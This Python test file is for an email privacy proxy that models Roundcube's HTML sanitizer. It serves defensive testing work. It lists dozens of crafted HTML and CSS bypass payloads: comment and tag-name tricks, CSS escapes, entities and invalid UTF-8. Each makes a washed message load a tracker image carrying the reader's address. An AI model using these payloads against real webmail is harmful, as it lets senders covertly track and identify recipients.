"""Roundcube's HTML washer, as modelled (beacon_proxy.rewrite.webmail).

Session 17's attack ran the refused copies through Roundcube's own washer (rcube_washtml,
both its libxml2 and its HTML5 parser) and rendered the result in Chromium: these cases
were stripped by the precise path, and some survived the fallback too, yet loaded the
tracker once washed (``ATTACKS`` and ``BAD_UTF8``: session 17; ``MORE``: session 18's
run of Roundcube's own PHP code).  Each is now read as the washer makes it: the precise
path gives such a part to the fallback, and the fallback holds it when even its
neutralised text loads once washed.
"""

from __future__ import annotations

import random
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from beacon_proxy.consent.policy import Policy
from beacon_proxy.rewrite import webmail
from beacon_proxy.rewrite.copies import CopyPolicy, Outcome, decide, prepare
from beacon_proxy.rewrite.engine import Engine
from beacon_proxy.rewrite.rescan import cut_of, diff_regions
from beacon_proxy.rewrite.rules import load_rules

ENGINE = Engine(load_rules())
U = "https://t.oracle-tracker.example/p/x.gif?e=reader%40example.org"
P = "https://t.oracle-tracker.example/p/reader-example-org/x.gif"
ATTACKS = {
    "alnum_comment": '<p>x<!--x><img src="{U}">--></p>',
    "end_tag_attributes": '<p>x</b title="><img src={U}>"></p>',
    "quote_in_tag_name": '<p>x<i"mg src="{U}"></p>',
    "smart_tag_colon": '<p>x<img:x src="{U}"></p>',
    "end_tag_blank": '<p>x</ <img src="{U}"></p>',
    "titlex": '<p>x<titlex><!--</title><img src="{U}">--></p>',
    "title_end_with_blank": '<p>x<title></title ><!--</title><img src="{U}">--></p>',
    "html_attributes": '<html title="><img src={U}>"><body><p>x</p></body></html>',
    "meta_charset": '<p>x<meta charset=utf-8 a="><img src={U}>"></p>',
    "header_as_head": '<header a="><img src={U}>"><p>x</p></header>',
    "list_in_comment": '<ul><li>a</li><!--<ul><li><img src="{U}"></li></ul>--></ul>',
    "base_in_comment": '<!--<base href="https://t.oracle-tracker.example/p/">--><p>'
                       '<img src="x.gif?e=reader%40example.org"></p>',
    "basefont": '<basefont href="https://t.oracle-tracker.example/p/"><p>'
                '<img src="x.gif?e=reader%40example.org"></p>',
    "style_comment": '<p style="background:ur/**/l({U})">x</p>',
    "style_double_entity": '<p style="background:u&amp;#114;l({U})">x</p>',
    "style_paren_entity": '<p style="background:url&amp;#40;{U})">x</p>',
    "style_backslash": '<p style="background:url\\({U})">x</p>',
    "style_hex_escape": '<p style="background:url\\28{U})">x</p>',
    "style_tag": '<p style="background:ur<b>l({U})">x</p>',
    "xmp": '<p>x<xmp><img src="{U}"></xmp></p>',
    "noembed": '<p>x<noembed><img src="{U}"></noembed></p>',
    "plaintext": '<p>x<plaintext><img src="{U}">',
    "title_over_lines": '<title>\n<img src="{U}"></title><p>x</p>',
    "cdata": '<p>x<![CDATA[ <img src="{U}"> ]]></p>',
    "bogus_declaration": '<p>x<!x <img src="{U}">></p>',
}
MORE = {
    # (a <style> keeps only URLs without a query: the identifier in the path)
    "style_tag_in_element": "<style>p{background:u<x>rl({P})}</style><p>x</p>",
    "style_entity_in_element": "<style>p{background:u&#114;l({P})}</style><p>x</p>",
    "body_background": '<body background="x),url({U}"><p>x</p></body>',
    "base_in_attribute": "<p title='<base href=\"https://t.oracle-tracker.example/p/\">'>a</p>"
                         '<img src="x.gif?e=reader%40example.org">',
    "head_in_attribute": '<p title="<head> <img src={U}>">x</p>',
    "slash_in_tag_name": '<p>x<i/mg src="{U}"></p>',
    "percent_in_tag_name": '<p>x<i%mg src="{U}"></p>',
    "nul_in_tag_name": '<p>x<im\x00g src="{U}"></p>',
    "noframes": '<p>x<noframes><img src="{U}"></noframes></p>',
    "iframe_content": '<p>x<iframe><img src="{U}"></iframe></p>',
    "title_unclosed": '<p>x<title><img src="{U}">',
    "curly_quotes": '<p title="x\u201c><img src={U}>\u201c">y</p>',
    "title_removal_joins": '<p>x<<title>a</title>img src="{U}"></p>',
    # sanitize_css_block's own url pattern, PHP's strip_tags and entity table (session 18)
    "css_quoted_urls": "<p style=\"background:url('#a), url({U}')\">x</p>",
    "css_newline_in_string": "<p style=\"a:'1\n';background:url({U});b:'\">x</p>",
    "css_quote_in_name": "<p style=\"x':1;background:url({U})\">x</p>",
    "nested_tags_in_style": '<p style="background:ur<a<b>c>l({U})">x</p>',
    "quoted_gt_in_style_tag": "<p style=\"background:ur<b '>x' >l({U})\">x</p>",
    "html5_only_entities": '<p style="&sol;&ast;a:1;background:url({U})">x</p>',
    "element_quoted_urls": "<style>p{background:url('data:image/x), url({P}')}</style><p>x</p>",
    "element_newline": "<style>p{a:'1\n';background:url({P});b:'}</style><p>x</p>",
    "element_quote_in_name": "<style>p{x':1;background:url({P})}</style><p>x</p>",
    "body_background_trimmed": '<body background=" #x),url({U}"><p>x</p></body>',
    "body_background_nbsp": '<body background="#\u00a0x),url({U}"><p>x</p></body>',
    "list_out_of_attribute": '<ul><li>a</li><p title="<ul><img src={U}></ul>">b</p></ul>',
}
BAD_UTF8 = {
    "invalid_in_tag_name": b'<p>x<i\xffmg src="{U}"></p>',
    "invalid_in_attribute": b'<img s\xffrc="{U}">',
    "invalid_in_background": b'<table><tr><td back\xffground="{U}">x</td></tr></table>',
    "invalid_in_url": b'<p style="background:u\xffrl({U})">x</p>',
}


def _message(html: bytes) -> bytes:
    return (b"From: a@shop.example\r\nTo: reader@example.org\r\nSubject: s\r\n"
            b"MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + html
            + b"\r\n")


def _refused(data: bytes) -> tuple[Outcome, bytes | None]:
    prepared = prepare(ENGINE, data, CopyPolicy())
    copy = decide(ENGINE, prepared, "reader@example.org", Policy.REFUSED, CopyPolicy())
    return copy.outcome, copy.data


CASES = {**{k: v.replace("{U}", U).replace("{P}", P).encode()
            for k, v in (ATTACKS | MORE).items()},
         **{k: v.replace(b"{U}", U.encode()) for k, v in BAD_UTF8.items()}}


@pytest.mark.parametrize("case", list(CASES))
def test_what_the_washer_makes_load_is_seen(case: str) -> None:
    assert webmail.loads_more(CASES[case], "utf-8")
    outcome, copy = _refused(_message(CASES[case]))
    if copy is not None:  # the fallback's copy: nothing loads once washed either
        assert outcome is Outcome.FALLBACK
        body = copy.split(b"\r\n\r\n", 1)[1]
        assert not webmail.loads(body, "utf-8"), body


@pytest.mark.parametrize("html", [
    b'<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Hi</title></head>'
    b'<body><p style="color:red;font-family:\'A\\\'s\'">x</p><img src="https://cdn.example/a.png">'
    b"<!--[if mso]><p>o</p><![endif]--><ul><li>a</li></ul></body></html>",
    b'<base href="https://shop.example/"><img src="a.png"><p>x</p>',
    b"<p>caf\xc3\xa9 &amp; <b>bold</b></p>",
    # Outlook's markup, conditional comments with VML, a word document's curly quotes
    b'<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:'
    b'office:office"><head><meta http-equiv="Content-Type" content="text/html; '
    b'charset=utf-8"></head><body><p class=MsoNormal>Hi<o:p></o:p></p><!--[if gte mso 9]>'
    b'<v:rect style="width:600px"><v:fill src="https://cdn.example/bg.png"/></v:rect>'
    b'<![endif]--><p>\xe2\x80\x9cQuoted\xe2\x80\x9d \xe2\x80\x94 it\xe2\x80\x99s'
    b"\xe2\x80\xa6</p></body></html>",
    b'<body background="https://cdn.example/bg.png" bgcolor="#fff"><p>x</p></body>',
    b"<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul><ol><li>x</li></ol>",
    b'<style>p{color:red} .a > .b {background:url(https://cdn.example/a.png)}</style>',
    b"<table><tr><td>a</td ></tr></table><br/><hr />",
    # the base replacer writes url(="..." (no load): not a new one
    b'<base href="https://shop.example/news/"><p style="background:url(bg.png)">x</p>'
    b'<style>p{background:url(b.png)}</style><img src="a.png">',
])
def test_honest_html_washes_to_the_same_loads(html: bytes) -> None:
    assert not webmail.loads_more(html, "utf-8")


TEMPLATES = sorted((Path(__file__).resolve().parents[3] / "shared" / "data" / "templates")
                   .glob("*.html"))


@pytest.mark.skipif(not TEMPLATES, reason="no shared templates")
def test_the_real_templates_keep_the_precise_path() -> None:
    for path in TEMPLATES:
        assert not webmail.loads_more(path.read_bytes(), "utf-8"), path.name


def test_a_title_is_cut_at_the_first_end_on_its_line() -> None:
    assert webmail.washed(b"<html><head><title>a</title>b</title></head>") == (
        b"<html><head><meta charset=\"UTF-8\" />b</title></head>")
    kept = webmail.washed(b"<p><title>a\n</title></p>")
    assert kept is not None and b"<title>a\n</title>" in kept


def test_the_base_replacer_rewrites_every_reference() -> None:
    out = webmail.washed(b'<base href="https://s.example/a/b"><img src=c.png>'
                         b'<p style="background:url(d.png)">')
    assert out is not None
    assert b'src="https://s.example/a/c.png"' in out
    assert b"url(=" in out  # rcube_base_replacer's own slip: no load there


def test_a_tag_inside_another_keeps_its_name() -> None:
    """Only the first "<" after a ">" starts a tag for the washer's pattern."""
    html = b'<p title="<a:b>">x</p><!-- <c:d> -->'
    assert webmail.washed(html) == (b'<html><head><meta charset="UTF-8" /></head>'
                                    b'<p title="<a:b>">x</p><!-- <c> -->')


def test_lists_nested_past_linear_work_are_not_read() -> None:
    html = b"<ul><li>a</li>" + b"<ul><li>" * 2000 + b"</ul>"
    assert webmail.washed(html) is None
    assert webmail.loads_more(html, "utf-8")


@pytest.mark.parametrize("charset", ["windows-1252", "iso-8859-1", "us-ascii", "x-unknown"])
def test_text_in_another_charset_is_washed_as_utf8(charset: str) -> None:
    """Roundcube converts to UTF-8 first, ISO-8859-1, US-ASCII and unknown labels as
    windows-1252: its curly quotes become quotes."""
    html = f'<p title="x\x93><img src={U}>\x94">y</p>'.encode("latin-1")
    assert webmail.loads_more(html, charset)


def test_a_template_with_a_base_keeps_the_precise_path() -> None:
    for path in TEMPLATES:
        base = b'<head>\n<base href="https://a.example/n/">'
        html = path.read_bytes().replace(b"<head>", base, 1)
        assert not webmail.loads_more(html, "utf-8"), path.name


def test_what_is_read_more_widely_than_roundcube_is_added_never_in_place() -> None:
    """A "style=" in text, read as an attribute, must not hide the markup after it."""
    html = f'<p> style="x<i"mg src={U}>y</p>'.encode()
    read = webmail.readings(html)
    assert read is not None and f"<img src={U}>".encode() in read.documents[0]
    assert webmail.loads_more(html, "utf-8")


def _copies(doc: bytes, seed: int, count: int, alphabet: bytes) -> list[bytes]:
    """Copies of ``doc`` with a few bytes replaced, as a campaign's differ (and worse)."""
    rng = random.Random(seed)
    out = []
    for _ in range(count):
        copy = bytearray(doc)
        for _k in range(rng.randint(1, 3)):
            at = rng.randrange(len(copy))
            copy[at : at + rng.randint(0, 4)] = bytes(
                rng.choice(alphabet) for _ in range(rng.randint(0, 8)))
        out.append(bytes(copy))
    return out


_HOSTILE = (b'<p>a<title>x</title>b<!doctype x>c <o:p>d</o:p><head>e</head><html lang=x>f'
            b'<?xml a?>g</nobr> <nobr>h<ul><li>i</li><li>j</li></ul>k<!--ab>l'
            b'<style>p{u&#114;l(x)}</style>m</p><p title="a>b c<%d">e</p><xmp>f</xmp> g')


@pytest.mark.skipif(not TEMPLATES, reason="no shared templates")
@pytest.mark.parametrize("seed", [1, 2])
def test_a_copy_rewashed_from_the_last_is_washed_as_in_full(seed: int) -> None:
    """:func:`webmail.rewash`: whenever it answers, the answer is the full washing's."""
    docs = [path.read_bytes() for path in TEMPLATES[:6]] + [_HOSTILE]
    answered = 0
    for doc in docs:
        prior = webmail.wash(doc)
        assert prior is not None and prior.edits is not None
        cut, lines = cut_of(doc)
        for copy in _copies(doc, seed, 120, b"abcXYZ019 .@%-" * 3 + b"<>\"'=&/\\:\n!?[]()*"):
            copy_cut, copy_lines = cut_of(copy)
            regions = diff_regions(doc, cut, lines, copy, copy_lines)
            if copy_cut != cut or regions is None:
                continue
            # every region taken for text (what rewash itself checks is what is tested;
            # where a region lies among the tokens, the caller's part, is readers.py's)
            again = webmail.rewash(prior, copy, regions, range(len(regions)))
            if again is not None:
                answered += 1
                assert again.washed == webmail.washed(copy)
    assert answered > 20  # (most random edits touch markup: those are washed in full)


def test_a_long_attribute_name_is_cut_as_libxml_cuts_it() -> None:
    """Session 18's third attack: libxml2 reads a name in pieces of 100 characters, the
    last one an attribute of its own; the fallback's copy keeps such a name (it is no
    "src"), so its check must see the load."""
    html = (b'<img? x><p>x</p><img alt="" ' + b"a" * 100
            + b'src="https://www.google-analytics.com/collect?v=1&amp;cid=5">')
    assert webmail.loads(html, "utf-8")
    outcome, copy = _refused(_message(html))
    assert copy is None or b"google-analytics" not in copy, outcome


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from([b"<", b">", b"a", b"b"]), max_size=200).map(b"".join),
       st.lists(st.integers(min_value=0, max_value=210), max_size=30))
def test_the_next_of_a_byte_is_what_find_says(text: bytes, positions: list[int]) -> None:
    """``rewash``'s searches from each region's end (``_NextOf``: going on from the last
    search instead of reading the rest again) answer as ``bytes.find`` does, for
    positions in order and, should a caller go back, out of order too."""
    after = webmail._NextOf(text)
    for at in [*sorted(positions), *positions]:
        for byte in (b"<", b">"):
            assert after(byte, at) == text.find(byte, at)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.tuples(st.integers(0, 100), st.integers(0, 30)), max_size=20),
       st.lists(st.tuples(st.integers(0, 100), st.integers(0, 30)), max_size=20))
def test_a_change_touches_a_style_exactly_as_the_pairwise_check_says(
        spans: list[tuple[int, int]], changes: list[tuple[int, int]]) -> None:
    """``reread``'s check of the changes against where CSS was read (a bisection) is the
    pairwise one it replaced (changes x spans: quadratic)."""
    styles = [(start, start + length) for start, length in spans]
    changed = [(a, a + length, a, a + length) for a, length in changes]
    pairwise = any(start <= b and a <= end for a, b, _, _ in changed for start, end in styles)
    assert webmail._touch_any(styles, changed) == pairwise


@settings(max_examples=3000, deadline=None)
@given(st.lists(st.sampled_from(["url", "URL", "(", ")", "'", '"', " ", "\t", "a", "-", "é",
                                 "u", "rl", "\u00a0", "Url ("]), max_size=16).map("".join))
def test_php_urls_are_the_pattern_s_matches(text: str) -> None:
    """The linear reading of sanitize_css_block's pattern finds what the pattern finds
    (session 27: ``url(`` repeated without a quote or ``)`` took quadratic time)."""
    assert webmail._php_urls(text) == [m[1] for m in webmail._PHP_URL.finditer(text)]


@st.composite
def _as_is_and_copy(draw: st.DrawFn) -> tuple[bytes, bytes, str, list[tuple[int, int, int, int]]]:
    """A text washed as is, a copy of it with some stretches replaced (by any bytes: a
    character cut, an invalid sequence, one completed), and where they differ."""
    charset = draw(st.sampled_from(["utf-8", "us-ascii", "iso-8859-1"]))
    alphabet = st.characters(max_codepoint=0x7F if charset != "utf-8" else 0x10FFFF,
                             codec="utf-8")
    text = draw(st.text(alphabet, max_size=12)).encode("utf-8")
    cuts = sorted(draw(st.lists(st.integers(0, len(text)), max_size=6)))
    pairs = list(zip(cuts[::2], cuts[1::2], strict=False))
    pieces = st.sampled_from([b"", b"a", b"\xc3", b"\xa9", b"\xc3\xa9", b"\xe2\x82", b"\xac",
                              b"\xf0\x9f\x98\x80", b"\x80\x80", b"\xff", b"<"])
    out, regions, at = [], [], 0
    for a0, a1 in pairs:
        out.append(text[at:a0])
        b0 = sum(map(len, out))
        new = draw(st.lists(pieces, max_size=3).map(b"".join))
        out.append(new)
        regions.append((a0, a1, b0, b0 + len(new)))
        at = a1
    out.append(text[at:])
    return text, b"".join(out), charset, regions


@settings(max_examples=2000)
@given(_as_is_and_copy())
def test_as_is_near_the_regions_is_as_is(case: tuple[bytes, bytes, str,
                                                     list[tuple[int, int, int, int]]]) -> None:
    """A copy of a text the washer gets as it is, checked only where it differs, is
    judged as the whole copy is."""
    text, copy, charset, regions = case
    assert webmail.washed_as_is(text, charset)
    assert webmail.washed_as_is_near(copy, charset, regions) is webmail.washed_as_is(
        copy, charset), (text, copy, regions)


@settings(max_examples=1000)
@given(st.binary(max_size=16) | st.text(max_size=8).map(lambda t: t.encode("utf-8")),
       st.sampled_from(["utf-8", "replacement", "us-ascii", "iso-8859-1", "x-unknown",
                        "shift_jis"]))
def test_text_of_returns_the_text_it_would_make(data: bytes, charset: str) -> None:
    """A text the washer gets as it is comes back itself: what decoding and encoding
    it again would make."""
    made = (data.decode("utf-8", "ignore").encode("utf-8") if charset in ("utf-8", "replacement")
            else data.decode("cp1252", "replace").encode("utf-8") if charset != "shift_jis"
            else None)
    if made is not None:
        assert webmail.text_of(data, charset) == made
